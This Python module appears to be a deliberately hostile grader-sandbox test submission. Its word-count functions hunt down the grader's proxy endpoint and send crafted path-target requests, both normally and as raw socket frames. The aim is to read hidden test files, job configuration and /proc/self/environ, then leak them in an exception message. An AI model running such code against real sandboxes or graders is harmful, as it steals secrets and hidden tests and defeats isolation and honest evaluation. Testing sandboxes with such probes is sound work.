"""Broken word count that asks the trusted test process to read the job's private files for
it: a request whose target is a path value ({"t": "path"}) instead of a handle the tests
handed over, then a call of whatever method handle comes back. Through the endpoint's own
request() and through raw frames written on its socket, on every call (the import is left
alone, so that every test's own call is refused)."""
import gc
import sys

PATHS = ["/job/job.json", "/job/hidden", "/job/hidden/test_word_count.py",
         "/job/work/trusted/hidden", "/job/work/trusted/hidden/test_word_count.py",
         "/job/work/trusted/hidden-pytest.ini", "/job/work", "/job/out", "/proc/self/environ"]
READERS = ["read_text", "read_bytes", "iterdir", "exists", "stat", "open", "is_file"]
NONE = {"t": "list", "v": []}
LEAKS = []


def find_endpoint():
    for name in ("__main__", "grader.sandbox.proxy.server"):
        module = sys.modules.get(name)
        for value in vars(module).values() if module else ():
            if type(value).__name__ == "StudentEndpoint":
                return value
    return next((o for o in gc.get_objects() if type(o).__name__ == "StudentEndpoint"), None)


def ask(endpoint, op, **fields):
    try:
        return True, endpoint.request(op, **fields)
    except BaseException as exc:
        return False, exc


def raw(endpoint, op, **fields):
    """The same request written as a frame by hand: the answer is the next frame."""
    message_id = 10 ** 6 + len(LEAKS) + id(fields) % 1000
    try:
        endpoint.send({"id": message_id, "op": op, **fields})
        reply = endpoint.receive()
    except BaseException as exc:
        return False, exc
    return bool(reply.get("ok")), reply.get("value", reply.get("error"))


def handle_in(value):
    if isinstance(value, dict) and value.get("t") == "ref" and value.get("home") == "mine":
        return {"t": "ref", "home": "yours", "id": value["id"]}
    endpoint = find_endpoint()
    if endpoint is not None and getattr(type(value), "_grader_proxy", False):
        return endpoint._refer(value)
    return None


def probe():
    endpoint = find_endpoint()
    if endpoint is None:
        return
    for path in PATHS:
        for target in ({"t": "path", "v": path}, {"t": "list", "v": [{"t": "path", "v": path}]}):
            for name in READERS:
                for how in (ask, raw):
                    ok, value = how(endpoint, "getattr", target=target, name=name)
                    handle = handle_in(value) if ok else None
                    if handle is not None:
                        ok, value = how(endpoint, "call", target=handle, args=NONE)
                    listing = handle_in(value) if ok else None
                    for _ in range(20 if listing is not None else 0):  # iterdir's generator
                        more, item = ask(endpoint, "dunder", target=listing,
                                         name="__next__", args=NONE)
                        if not more:
                            break
                        LEAKS.append(f"{path} lists {item!r}"[:300])
                    if ok and value is not None:
                        LEAKS.append(f"{path} {name}: {value!r}"[:300])
            ok, value = ask(endpoint, "dunder", target={"t": "path", "v": path},
                            name="__str__", args=NONE)



def count_words(text):
    probe()
    if LEAKS:
        raise RuntimeError("LEAK" + "ED " + " | ".join(LEAKS)[:3000])
    return {}


def top_words(text, n):
    probe()
    return []
